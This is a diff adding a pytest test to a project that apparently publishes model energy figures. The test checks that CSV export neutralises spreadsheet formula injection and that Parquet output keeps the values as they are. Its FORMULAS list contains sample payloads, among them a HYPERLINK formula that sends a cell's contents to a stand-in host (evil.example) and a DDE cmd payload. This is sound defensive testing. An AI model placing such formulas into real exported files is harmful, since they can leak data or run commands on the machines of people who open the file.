@@ -443,3 +443,34 @@ def test_the_extended_schema_is_built_on_the_index_schema(all_tasks):
     plain = json.loads((all_tasks / "lm-arena-chat" / "index.json").read_bytes())
     plain["rows"][0]["surprise"] = 1
     assert schema_problems(plain) != []
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?q="&A1,"Qwen 3 14B")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1,2)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_neutralised(published):
+    from energy_index.documents.tables import table_bytes
+
+    rows = [dict(row) for row in published["rows"][: len(FORMULAS)]]
+    for row, formula in zip(rows, FORMULAS, strict=True):
+        row["model"] = formula
+    rows[0]["gpu"] = "=1+1"
+    records = list(csv.DictReader(io.StringIO(table_bytes(rows, format="csv").decode())))
+    # OWASP: a leading single quote makes a spreadsheet take the cell as text.
+    assert [r["model"] for r in records] == [f"'{formula}" for formula in FORMULAS]
+    assert records[0]["gpu"] == "'=1+1" and records[1]["gpu"] == rows[1]["gpu"]
+    # Numbers stay numbers, and what is not a formula is written as it is.
+    assert [r["row_id"] for r in records] == [r["row_id"] for r in rows]
+    assert [float(r["wh_per_million_output_tokens"]) for r in records] == [
+        r["wh_per_million_output_tokens"] for r in rows
+    ]
+    # Parquet is typed, not evaluated: its cells stay as the JSON has them.
+    parquet = pl.read_parquet(io.BytesIO(table_bytes(rows, format="parquet")))
+    assert parquet.get_column("model").to_list() == FORMULAS
